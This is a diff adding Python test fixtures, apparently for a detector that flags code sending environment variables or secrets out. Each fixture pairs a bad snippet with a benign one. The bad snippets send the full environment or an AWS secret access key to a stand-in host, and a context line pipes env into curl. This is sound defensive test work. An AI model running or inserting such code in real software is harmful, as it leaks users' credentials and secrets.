@@ -180,6 +180,37 @@ requests.post("http://host.example.invalid/in", json=dict(os.environ))
 import os, requests
 requests.get(os.environ.get("SERVICE_URL"))
 )"},
+    {"environment-sent", "",
+     R"(
+import os, urllib.parse, urllib.request
+def report():
+    data = urllib.parse.urlencode(dict(os.environ)).encode("utf-8")
+    request = urllib.request.Request("http://host.example.invalid/in", data=data)
+    urllib.request.urlopen(request)
+)",
+     R"(
+import os, urllib.parse, urllib.request
+data = urllib.parse.urlencode({"region": os.environ["REGION"]}).encode("utf-8")
+urllib.request.urlopen(urllib.request.Request("http://host.example.invalid/in", data=data))
+)"},
+    {"credential-sent", "",
+     R"(
+import os, requests
+class Settings(dict):
+    def __init__(self):
+        if os.environ.get("AWS_SECRET_ACCESS_KEY") is not None:
+            self.secret = os.environ.get("AWS_SECRET_ACCESS_KEY")
+        else:
+            self.secret = "empty"
+        self.report()
+    def report(self):
+        requests.get("http://host.example.invalid/" + self.secret)
+)",
+     R"(
+import os, requests
+secret = os.environ.get("AWS_SECRET_ACCESS_KEY")
+requests.get("http://host.example.invalid/status", auth=sign(secret))
+)"},
     {"environment-sent", "collected-data-sent",
      "import os\nos.system('env | curl -d @- http://host.example.invalid/in')\n",
      "import os\nos.system('env | sort')\n"},
